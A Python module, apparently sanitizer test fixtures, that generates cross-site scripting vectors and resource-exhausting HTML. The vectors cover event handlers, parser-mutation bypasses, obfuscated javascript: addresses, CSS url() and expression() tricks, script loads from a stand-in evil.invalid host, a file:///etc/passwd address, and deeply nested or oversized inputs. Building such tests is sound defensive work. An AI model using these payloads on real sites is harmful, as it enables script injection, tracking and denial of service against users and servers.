"""HTML made to run, to load or to lie over the page that shows it. Each piece tells of itself: a script
adds to `window.ran`, a load asks for something of `http://evil.invalid`.
"""

from __future__ import annotations

from itertools import count

_EVIL = "http://evil.invalid"
_RUN = "window.ran=(window.ran||0)+1"

_HANDLERS = {
    "onerror": ("<img src=x {}>", "<video src=x {}></video>",
                "<input type=image src=x {}>", "<audio src=x {}>"),
    "onload": ("<body {}>", "<svg {}>", "<iframe {}></iframe>", "<style {}>a{{}}</style>",
               "<link rel=stylesheet href=x {}>"),
    "onfocus": ("<input autofocus {}>", "<a href=# tabindex=0 autofocus {}>x</a>",
                "<select autofocus {}></select>"),
    "onclick": ("<p {}>x</p>", "<a {}>x</a>", "<table {}><td>x</table>"),
    "onmouseover": ("<b {}>x</b>", "<img alt=x {}>"),
    "ontoggle": ("<details open {}>x</details>",),
    "onstart": ("<marquee {}>x</marquee>",),
    "onanimationstart": ("<style>@keyframes k{{}}</style><p style=\"animation:k 1s\" {}>x</p>",),
    "onbegin": ("<svg><animate attributeName=x dur=1s {}></svg>",),
    "onpageshow": ("<body {}>",),
    "onresize": ("<body {}>",),
    "oncopy": ("<div {}>x</div>",),
    "onwheel": ("<div {}>x</div>",),
    "onpointerrawupdate": ("<div {}>x</div>",),
    "onbeforetoggle": ("<div popover {}>x</div>",),
    "onscrollend": ("<div {}>x</div>",),
}  # fmt: skip

_SCRIPTS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script/x>{run}</script>",
    "<script\n>{run}</script\n>",
    "<script src={evil}/s.js></script>",
    "<script type=module>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={evil}/s.js /></svg>",
    "<math><script>{run}</script></math>",
    "<svg><a xlink:href=\"javascript:{run}\"><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onload to={run}></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>#x\"></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.{run}</script>\"></iframe></foreignObject></svg>",
    "<template><script>{run}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\"></noscript>",
    "<!--><script>{run}</script>-->",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<![CDATA[><script>{run}</script>]]>",
    "<?xml version=1.0?><script>{run}</script>",
    "<xmp><p title=\"</xmp><img src=x onerror={run}>\"></xmp>",
    "<textarea><p title=\"</textarea><img src=x onerror={run}>\"></textarea>",
    "<title><p title=\"</title><img src=x onerror={run}>\"></title>",
    "<noembed><p title=\"</noembed><img src=x onerror={run}>\"></noembed>",
    "<plaintext><script>{run}</script>",
    "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{run}\"></iframe>",
    "<frameset onload={run}><frame></frameset>",
    "<object data=\"javascript:{run}\"></object>",
    "<object data=\"data:text/html,<script>parent.{run}</script>\"></object>",
    "<embed src=\"data:text/html,<script>parent.{run}</script>\">",
    "<form action=\"javascript:{run}\"><input type=submit autofocus></form>",
    "<isindex action=\"javascript:{run}\">",
    "<button formaction=\"javascript:{run}\">x</button>",
    "<base href=\"javascript:{run}//\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">",
    "<math><mtext><mglyph><style><math><table><img src onerror={run}>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={run}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<select><style></select><script>{run}</script></style>",
    "<table><td></td><style></table><img src=x onerror={run}></style>",
    "<img src=\"x` `<script>{run}</script>\"` `>",
    "<img \"\"\"><script>{run}</script>\"\\>",
    "<img/src=x/onerror={run}>",
    "<img src=x onerror\n=\n{run}>",
    "<img src=x\tonerror={run}>",
    "<img src=x\x0conerror={run}>",
    "<img src=x title='\"' onerror={run}>",
    "<img src=x \x00onerror={run}>",
    "<a\x0b/onmouseover={run}>x</a>",
    "<x onclick={run} contenteditable>x</x>",
    "<p style=\"x\" onclick=\"{run}\" style=\"y\">x</p>",
    "<video><source onerror={run} src=x></video>",
    "<object><param name=src value=\"javascript:{run}\"></object>",
    "<dialog open onclose={run}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<div id=cookie name=cookie></div><img name=getElementById><form id=ran></form><script>{run}</script>",
)  # fmt: skip

_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java&#10;script:{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "&#0000106avascript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "feed:javascript:{run}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "blob:{evil}/x",
    "filesystem:{evil}/x",
    "view-source:{evil}/x",
    "//evil.invalid/x",
    "\\\\evil.invalid\\x",
    "/act",
    "?x",
    "ws://evil.invalid/x",
    "file:///etc/passwd",
)
_ADDRESSED = ('<a href="{}">x</a>', '<img src="{}">', '<area href="{}">')

_LOADS = (
    "<img src={evil}/a.png>",
    "<img srcset=\"{evil}/a.png 2x\">",
    "<img src=x lowsrc={evil}/a.png>",
    "<img src=x longdesc={evil}/a>",
    "<picture><source srcset={evil}/a.png><img></picture>",
    "<table background={evil}/a.png><td>x</table>",
    "<td background={evil}/a.png>x</td>",
    "<body background={evil}/a.png>",
    "<video src={evil}/a.mp4 autoplay></video>",
    "<video poster={evil}/a.png></video>",
    "<audio src={evil}/a.mp3 autoplay></audio>",
    "<track src={evil}/a.vtt>",
    "<input type=image src={evil}/a.png>",
    "<iframe src={evil}/a></iframe>",
    "<frame src={evil}/a>",
    "<embed src={evil}/a>",
    "<object data={evil}/a></object>",
    "<applet code=a codebase={evil}></applet>",
    "<link rel=stylesheet href={evil}/a.css>",
    "<link rel=prefetch href={evil}/a>",
    "<link rel=dns-prefetch href=//evil.invalid>",
    "<link rel=preconnect href={evil}>",
    "<link rel=preload as=image href={evil}/a.png>",
    "<link rel=icon href={evil}/a.ico>",
    "<link rel=manifest href={evil}/a>",
    "<meta http-equiv=refresh content=\"0;url={evil}/a\">",
    "<meta http-equiv=set-cookie content=a=b>",
    "<base href={evil}/><img src=a.png>",
    "<svg><image href={evil}/a.png /></svg>",
    "<svg><image xlink:href={evil}/a.png /></svg>",
    "<svg><use href={evil}/a.svg#x /></svg>",
    "<svg><filter id=f><feImage href={evil}/a.png /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "<math href={evil}/a>x</math>",
    "<a ping={evil}/a href=#>x</a>",
    "<form action={evil}/a><input name=a></form>",
    "<button formaction={evil}/a>x</button>",
    "<html manifest={evil}/a>",
    "<bgsound src={evil}/a.mp3>",
    "<layer src={evil}/a></layer>",
    "<portal src={evil}/a></portal>",
    "<object type=text/x-scriptlet data={evil}/a></object>",
    "<img src=\"cid:other\">",
    "<img src=\"cid:{evil}/a.png\">",
    "<xml src={evil}/a></xml>",
    "<style>@import '{evil}/a.css';</style>",
    "<style>@import url({evil}/a.css);</style>",
    "<style>body{{background:url({evil}/a.png)}}</style>",
    "<style>@font-face{{font-family:f;src:url({evil}/a.woff)}}*{{font-family:f}}</style>",
    "<style>a[href^=x]{{background:url({evil}/a)}}</style><a href=x>x</a>",
    "<style>*{{cursor:url({evil}/a.cur),auto}}</style>",
    "<style>@namespace url({evil}/a);</style>",
)  # fmt: skip

_STYLES = (
    "background:url({evil}/a.png)",
    "background-image:url({evil}/a.png)",
    "background-image:url('{evil}/a.png')",
    "background:URL({evil}/a.png)",
    "background:u\\72l({evil}/a.png)",
    "background:\\75 rl({evil}/a.png)",
    "background:ur/**/l({evil}/a.png)",
    "background-color:red;background:url({evil}/a.png)",
    "background-image:image-set('{evil}/a.png' 1x)",
    "background-image:-webkit-image-set(url({evil}/a.png) 1x)",
    "background-image:cross-fade(url({evil}/a.png),url({evil}/b.png),50%)",
    "background-image:element(#a)",
    "background-image:paint(x)",
    "list-style:url({evil}/a.png)",
    "list-style-image:url({evil}/a.png)",
    "border-image:url({evil}/a.png) 30",
    "border-image-source:url({evil}/a.png)",
    "cursor:url({evil}/a.cur),auto",
    "content:url({evil}/a.png)",
    "filter:url({evil}/a.svg#x)",
    "mask:url({evil}/a.svg#x)",
    "-webkit-mask-image:url({evil}/a.png)",
    "clip-path:url({evil}/a.svg#x)",
    "shape-outside:url({evil}/a.png)",
    "offset-path:url({evil}/a.svg#x)",
    "src:url({evil}/a.woff)",
    "behavior:url({evil}/a.htc)",
    "-moz-binding:url({evil}/a.xml#x)",
    "width:expression({run})",
    "width:exp/**/ression({run})",
    "color:red;}}*{{background:url({evil}/a.png)",
    "font-family:'x';background:url({evil}/a.png)",
    "--x:url({evil}/a.png);background:var(--x)",
    "background:attr(title url)",
    "position:fixed;top:0;left:0;width:100vw;height:100vh",
    "position:absolute;top:0",
    "position:sticky;top:0",
    "z-index:99999",
    "transform:scale(99)",
    "animation:x 1s",
    "opacity:0",
    "color:rgb(1,2,3);background:url(rgb(1,2,3))",
    "width:calc(1px + url({evil}/a))",
    "@import url({evil}/a.css)",
    "color:red!important;position:fixed",
    "background&#58;url({evil}/a.png)",
    "&#98;ackground:url({evil}/a.png)",
)  # fmt: skip


def vectors() -> list[str]:
    """Every piece, each with a number of its own in what it would load."""
    numbers = count()

    def filled(text: str) -> str:
        return (
            text.replace("{run}", _RUN)
            .replace("{evil}", f"{_EVIL}/{next(numbers)}")
            .replace("{{", "{")
            .replace("}}", "}")
        )

    made = [
        shape.replace("{}", f'{handler}="{_RUN}"', 1).replace("{{", "{").replace("}}", "}")
        for handler, shapes in _HANDLERS.items()
        for shape in shapes
    ]
    made += [filled(text) for text in (*_SCRIPTS, *_LOADS)]
    made += [
        filled(shape.replace("{}", address.replace('"', "&quot;")))
        for address in _ADDRESSES
        for shape in _ADDRESSED
    ]
    made += [f'<p style="{filled(style)}">x</p>' for style in _STYLES]
    return made


def deep_and_wide() -> dict[str, str]:
    """HTML that costs a reader time or memory beyond all measure, by what it is made of."""
    return {
        "nested blocks": "<div>" * 100_000,
        "nested fonts": "<font>" * 50_000 + "</p>" * 50_000,
        "open formatting": "<b><i><u>" * 20_000 + "<p>x</p>" * 2_000,
        "tables in tables": "<table><tr><td>" * 30_000,
        "attributes": "<p " + " ".join(f"a{number}=1" for number in range(100_000)) + ">x",
        "attributes without space": "<p " + "/a" * 200_000 + ">x",
        "one long attribute": '<p title="' + "x" * 900_000 + '">x',
        "styles": '<p style="' + "color:red;" * 90_000 + '">x',
        "comments": "<!--" * 200_000,
        "broken tags": "<" * 500_000,
        "entities": "&lt;" * 200_000,
        "select": "<select>" * 50_000 + "<option>" * 50_000,
        "svg": "<svg><g>" * 40_000,
        "math": "<math><mi>" * 40_000,
        "lists": "<ul><li>" * 40_000,
        "misnested": "<a><table><a>" * 15_000,
        "templates": "<template>" * 50_000,
        "pre": "<pre>" + "x\n" * 400_000,
        "too long": "x" * 2_000_000,
        "paragraphs": "<p>" * 29_000,
        "cells": "<table>" + "<td>" * 29_000,
        "links": "<a href=http://a.example>" * 190,
    }
